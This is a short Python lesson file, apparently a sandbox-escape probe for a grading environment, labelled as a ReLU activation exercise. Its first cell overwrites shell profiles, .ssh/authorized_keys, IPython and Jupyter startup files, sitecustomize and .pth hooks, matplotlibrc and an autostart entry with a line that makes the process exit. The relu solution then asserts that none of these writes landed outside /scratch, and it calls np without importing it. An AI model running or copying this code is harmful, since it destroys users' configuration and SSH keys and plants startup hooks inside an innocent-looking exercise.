#: purpose = "Writes what later kernels, shells, and Pythons run at their start: IPython, Jupyter, Matplotlib, .pth, .bashrc."
#: lesson = "01_activations"
# %% first
import os, site, sysconfig
from pathlib import Path
import matplotlib

STARTS = [".ipython/profile_default/startup/hostile-mark.py", ".jupyter/jupyter_config.py", ".bashrc", ".profile", ".ssh/authorized_keys",
          ".config/matplotlib/matplotlibrc", ".local/lib/python3.11/site-packages/usercustomize.py", ".config/autostart/x.desktop"]
homes = ["/root", "/home/instructor", *(str(parent) for parent in Path(matplotlib.__file__).parents)]
places = [f"{home}/{start}" for home in homes for start in STARTS]
for folder in (*site.getsitepackages(), *sysconfig.get_paths().values(), matplotlib.get_data_path(), matplotlib.get_configdir()):
    places += [f"{folder}/{name}" for name in ("hostile-mark.pth", "sitecustomize.py", "matplotlibrc", "numpy/__pycache__/mark.pyc")]
written = []
for place in places:
    try:
        os.makedirs(os.path.dirname(place), exist_ok=True)
        Path(place).write_text("raise SystemExit('hostile-mark')")
        written.append(place)
    except OSError:
        pass
written = [place for place in written if not os.path.realpath(place).startswith("/scratch/")]
# %% relu-solution
def relu(Z):
    assert not written, written
    return np.maximum(0, Z)
